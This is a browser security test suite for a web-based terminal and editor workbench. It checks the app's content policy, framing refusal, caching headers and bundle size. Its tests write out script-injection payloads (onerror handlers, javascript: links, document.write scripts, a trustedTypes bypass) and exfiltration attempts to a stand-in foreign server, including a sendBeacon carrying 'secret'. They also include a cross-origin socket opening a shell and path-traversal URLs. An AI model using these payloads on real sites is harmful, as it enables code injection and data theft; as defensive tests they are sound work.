import { beforeAll, describe, expect, test } from 'bun:test'
import { eventually } from '@sandwire/testing'
import { findBrowserProblem } from './support/browser.ts'
import { PageWitness, Stranger } from './support/page-witness.ts'
import { type Desk, WorkbenchScene } from './support/workbench.ts'

const obstacle = findBrowserProblem() ?? (Bun.which('bwrap') === null ? 'no bubblewrap' : undefined)
const TIMEOUT_MS = 120_000

describe.skipIf(obstacle !== undefined)(
  `the workbench as a page${obstacle === undefined ? '' : ` (skipped: ${obstacle})`}`,
  () => {
    let scene: WorkbenchScene
    beforeAll(async () => {
      scene = await WorkbenchScene.open()
    }, TIMEOUT_MS)

    /** A desk, and everything that its page does from the beginning. */
    async function openWatched(): Promise<{ desk: Desk; witness: PageWitness }> {
      const desk = await scene.openDesk()
      const witness = await PageWitness.watch(desk.context, desk.page)
      await desk.page.reload()
      await desk.first.until(({ status }) => status === 'attached')
      return { desk, witness }
    }

    test(
      'needs nothing that its policy refuses, with terminal, files, editor, git, search and dialogs',
      async () => {
        const { desk, witness } = await openWatched()
        await using _ = desk
        const { page } = desk
        const panel = (name: string) => page.getByRole('button', { name, exact: true }).first().click()
        await desk.first.run(
          'git init -q . && git config user.email a@b.c && git config user.name A && ' +
            'printf "<b>one</b>\\n" > walk.html && git add . && git commit -qm first && ' +
            'printf "<b>two</b>\\n<script>let a = 1</script>\\n" > walk.html && printf "\\033[31mred\\033[0m done"; echo',
        )
        await desk.first.waitFor('red done')

        await panel('Files')
        await page.getByRole('treeitem', { name: 'walk.html' }).click()
        await page.locator('.cm-content').getByText('two').waitFor()
        await page.keyboard.type('typed ')
        await page.keyboard.press('Control+S')
        await panel('Search')
        await page.getByLabel('Search in files').fill('script')
        await page.locator('.found-line').first().click()
        // Its keys lead there from the editor too.
        await page.locator('.cm-content').click()
        await page.keyboard.press('Control+Shift+Y')
        await page
          .getByRole('button', { name: /^walk\.html/ })
          .first()
          .click()
        await page.locator('.compare .cm-content').first().waitFor()
        await page.getByRole('button', { name: 'Inline' }).click()
        for (const title of ['Settings', 'Keyboard shortcuts']) {
          await desk.command(title)
          await page.keyboard.press('Escape')
        }
        await page.getByRole('tab').first().click()
        await page.getByRole('button', { name: 'Share terminal' }).click()
        await page.getByRole('dialog').waitFor()
        expect(await witness.violations()).toEqual([])
        expect(witness.complaints).toEqual([])
        expect(witness.hosts).toEqual([new URL(scene.origin).host])
      },
      TIMEOUT_MS,
    )

    test(
      'runs no script but its own, whichever way one gets into it (threat T25)',
      async () => {
        const { desk } = await openWatched()
        await using _ = desk
        await using elsewhere = new Stranger('globalThis.pwned = 1')
        const refused = await desk.page.evaluate(async (other) => {
          const run = 'globalThis.pwned = 1'
          const attempts: Record<string, () => unknown> = {
            // oxlint-disable-next-line no-eval -- it has to be refused
            eval: () => globalThis.eval(run),
            function: () => Reflect.construct(Function, [run])(),
            timer: () => Reflect.apply(setTimeout, globalThis, [run, 0]),
            markup: () => (document.body.innerHTML += `<img src=x onerror="${run}">`),
            range: () => document.createRange().createContextualFragment(`<script>${run}</script>`),
            write: () => document.write(`<script>${run}</script>`),
            text: () => {
              const script = document.createElement('script')
              script.text = run
              document.documentElement.append(script)
            },
            source: () => {
              const script = document.createElement('script')
              script.src = `${other}/x.js`
              document.documentElement.append(script)
            },
            frame: () => {
              const frame = document.createElement('iframe')
              frame.srcdoc = `<script>parent.${run}</script>`
              document.documentElement.append(frame)
            },
            worker: () => new Worker(`${other}/x.js`),
            policy: () => Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {}),
            defaultPolicy: () =>
              Reflect.get(globalThis, 'trustedTypes').createPolicy('default', {
                createHTML: (text: string) => text,
                createScript: (text: string) => text,
              }),
            import: () => import(`${other}/x.js`),
          }
          const outcomes: Record<string, string> = {}
          for (const [name, attempt] of Object.entries(attempts)) {
            // What the debugger runs is exempt from the policy; what a timer runs is not.
            outcomes[name] = await new Promise((resolve) => {
              setTimeout(() => {
                Promise.try(attempt).then(
                  () => resolve('let'),
                  () => resolve('refused'),
                )
              }, 0)
            })
          }
          // Text that asks for nothing but an attribute makes no error, and no script either.
          const holder = document.createElement('a')
          holder.href = `javascript:${run}`
          document.documentElement.append(holder)
          holder.click()
          await new Promise((resolve) => {
            setTimeout(resolve, 100)
          })
          return { outcomes, pwned: Reflect.get(globalThis, 'pwned') as unknown }
        }, elsewhere.origin)
        expect(new Set(Object.values(refused.outcomes))).toEqual(new Set(['refused']))
        expect(refused.pwned).toBeUndefined()
        expect(elsewhere.asked).toEqual([])
      },
      TIMEOUT_MS,
    )

    test(
      'sends nothing to another server, whichever way it is asked to (threat T3)',
      async () => {
        const { desk } = await openWatched()
        await using _ = desk
        await using elsewhere = new Stranger()
        await desk.page.evaluate(async (other) => {
          const until = (make: () => unknown): Promise<unknown> => Promise.try(make).catch(() => undefined)
          await until(() => fetch(other, { mode: 'no-cors' }))
          await until(() => navigator.sendBeacon(`${other}/beacon`, 'secret'))
          await until(
            () =>
              new Promise((resolve) => {
                const socket = new WebSocket(other.replace('http', 'ws'))
                socket.addEventListener('open', resolve)
                socket.addEventListener('error', resolve)
              }),
          )
          await until(() => new EventSource(`${other}/events`))
          await until(
            () =>
              new Promise((resolve) => {
                const image = new Image()
                image.addEventListener('error', resolve)
                image.addEventListener('load', resolve)
                image.src = `${other}/pixel.png`
              }),
          )
          const style = document.createElement('style')
          style.textContent = `@import url(${other}/a.css); body { background: url(${other}/b.png) }`
          document.head.append(style)
          const frame = document.createElement('iframe')
          frame.src = `${other}/frame`
          document.body.append(frame)
          const form = document.createElement('form')
          form.action = `${other}/form`
          form.method = 'post'
          document.body.append(form)
          form.submit()
          await new Promise((resolve) => {
            setTimeout(resolve, 300)
          })
        }, elsewhere.origin)
        expect(elsewhere.asked).toEqual([])
        expect(desk.page.url()).toBe(`${scene.origin}/`)
      },
      TIMEOUT_MS,
    )

    test(
      'is led to no other server by its address, by messages or by what was stored (threat T3)',
      async () => {
        await using desk = await scene.openDesk()
        await using elsewhere = new Stranger()
        const witness = await PageWitness.watch(desk.context, desk.page)
        const [http, ws] = [elsewhere.origin, elsewhere.origin.replace('http', 'ws')]
        const leaf = { kind: 'leaf', id: 'v1' }
        const layout = {
          tabs: [{ id: 't1', focus: 'v1', panes: JSON.stringify(leaf), url: ws }],
          active: 't1',
          views: JSON.stringify({
            v1: { kind: 'terminal', sandbox: `//localhost:${elsewhere.port}/x`, session: `${ws}/attach` },
          }),
        }
        const stored: Readonly<Record<string, string>> = {
          'sandwire.layout': JSON.stringify(layout),
          'sandwire.settings': JSON.stringify({ fontFamily: `x, url(${http}/f.woff2)`, url: ws }),
          'sandwire.open': JSON.stringify({ sandbox: http, session: `${ws}/attach`, role: 'viewer' }),
          ...Object.fromEntries(['wsUrl', 'gatewayUrl', 'url', 'sandwire.url'].map((key) => [key, ws])),
        }
        await desk.page.evaluate((entries) => {
          for (const [key, value] of Object.entries(entries)) {
            localStorage.setItem(key, value)
            sessionStorage.setItem(key, value)
          }
        }, stored)
        const query = new URLSearchParams({ wsUrl: ws, gatewayUrl: ws, url: http, sandbox: http, server: ws })
        await desk.page.goto(`${scene.origin}/?${query.toString()}#gatewayUrl=${ws}&wsUrl=${ws}`)
        await desk.page.locator('.desk').waitFor()
        await desk.page.evaluate((address) => {
          for (const message of [{ wsUrl: address }, { type: 'connect', url: address }, address])
            window.postMessage(message, '*')
        }, ws)
        // What was stored is tried, at our own server, which knows nothing of it.
        await desk.page.locator('.banner.ended').first().waitFor()
        await desk.page.getByRole('button', { name: 'New terminal', exact: true }).first().click()
        await desk.first.until(({ status }) => status === 'attached')
        expect(elsewhere.asked).toEqual([])
        expect(witness.hosts).toEqual([new URL(scene.origin).host])
      },
      TIMEOUT_MS,
    )

    test(
      'is framed and reached by no page of another origin, cookie or not (threat T1)',
      async () => {
        const { desk } = await openWatched()
        await using _ = desk
        const session = await desk.first.session()
        const [sandbox = ''] = session.split('.')
        await using elsewhere = new Stranger()
        const evil = await desk.context.newPage()
        for (const origin of [elsewhere.origin, `http://127.0.0.1:${elsewhere.port}`]) {
          await evil.goto(origin)
          await evil.evaluate((address) => {
            const frame = document.createElement('iframe')
            frame.src = address
            document.body.append(frame)
          }, scene.origin)
          await eventually(() => evil.frames()[1]?.url().startsWith('chrome-error:'), {
            what: 'the frame to be refused',
          })
          const found = await evil.evaluate(
            async ({ app, paths }) => {
              const openOne = (path: string): Promise<string> =>
                new Promise((resolve) => {
                  const socket = new WebSocket(app.replace('http', 'ws') + path, ['sandwire.v1'])
                  socket.addEventListener('open', () => resolve(`${path} is open`))
                  socket.addEventListener('error', () => resolve('refused'))
                })
              const ask = (path: string, init: RequestInit = {}): Promise<string> =>
                fetch(app + path, { credentials: 'include', ...init }).then(
                  (response) => response.text(),
                  () => 'refused',
                )
              return Promise.all([
                ...paths.map(openOne),
                ask('/'),
                ask('/api/sandboxes'),
                ask('/api/tickets', { method: 'POST', body: '{}' }),
              ])
            },
            {
              app: scene.origin,
              paths: [
                `/attach?session=${session}`,
                `/attach?sandbox=${sandbox}&cmd=sh`,
                `/terminal/${session}`,
                `/ws/pty?sandbox=${sandbox}`,
              ],
            },
          )
          expect(new Set(found)).toEqual(new Set(['refused']))
        }
        // Browsers give cookies to every port of a host.
        expect(elsewhere.cookies).toEqual([])
        // Opened in a window, it has no opener to be steered by.
        const [popup] = await Promise.all([
          desk.context.waitForEvent('page'),
          evil.evaluate((address) => void window.open(address), scene.origin),
        ])
        await popup.locator('.desk').waitFor()
        expect(await popup.evaluate(() => window.opener === null)).toBe(true)
      },
      TIMEOUT_MS,
    )

    test(
      'is signed in under the name that its link is for, wherever the link is pasted (threat T1)',
      async () => {
        await using desk = await scene.openStranger()
        const { page } = desk
        await page.goto(`http://localhost:${scene.host.port}/signin`)
        await page.getByLabel('Link or code').fill(await scene.link())
        await page.getByRole('button', { name: 'Sign in' }).click()
        await page.locator('.desk').waitFor()
        expect(new URL(page.url()).origin).toBe(scene.origin)
        const cookies = await desk.context.cookies()
        expect(cookies.map(({ domain }) => domain)).toEqual([new URL(scene.origin).hostname])
      },
      TIMEOUT_MS,
    )

    test(
      'is at a prompt after less than 300 KiB, compressed, and loads the editor when there is a file to edit',
      async () => {
        const { desk, witness } = await openWatched()
        await using _ = desk
        const loaded = async (): Promise<number> => {
          const files = new Set(witness.asked.filter((url) => new URL(url).pathname.startsWith('/assets/')))
          const bodies = await Promise.all(
            [...files].map(async (url) => (await fetch(url.replace(scene.origin, scene.host.url))).bytes()),
          )
          return bodies.reduce((sum, body) => sum + Bun.gzipSync(body).byteLength, 0)
        }
        const atPrompt = await loaded()
        expect(atPrompt).toBeGreaterThan(50 * 1024)
        expect(atPrompt).toBeLessThanOrEqual(300 * 1024)
        await desk.first.run('echo text > some.txt')
        await desk.page.getByRole('button', { name: 'Files', exact: true }).first().click()
        await desk.page.getByRole('treeitem', { name: 'some.txt' }).click()
        await desk.page.locator('.cm-content').waitFor()
        expect(await loaded()).toBeGreaterThan(atPrompt + 50 * 1024)
      },
      TIMEOUT_MS,
    )

    test('is never kept by a browser, and its files for ever; what is not one is not found', async () => {
      const ask = (path: string, method = 'GET') => fetch(`${scene.host.url}${path}`, { method })
      const page = await ask('/')
      expect(page.headers.get('cache-control')).toBe('no-store')
      const named = Array.from((await page.text()).matchAll(/"(\/assets\/[^"]+)"/g), ([, file]) => file ?? '')
      expect(named.length).toBeGreaterThan(2)
      for (const file of named) {
        const [got, head] = await Promise.all([ask(file), ask(file, 'HEAD')])
        for (const answer of [got, head]) {
          expect(answer.status).toBe(200)
          expect(answer.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
          expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
          expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'")
        }
        expect(await head.text()).toBe('')
        expect((await got.text()).includes('sourceMappingURL=')).toBe(false)
        expect((await ask(`${file}.map`)).status).toBe(404)
      }
      expect((await ask('/', 'HEAD')).status).toBe(200)
      for (const path of [
        '/index.html',
        '/assets/index.html',
        '/assets/none.js',
        '/assets/..%2Findex.html',
        '/assets/%2e%2e/index.html',
      ])
        expect((await ask(path)).status).not.toBe(200)
    })
  },
)
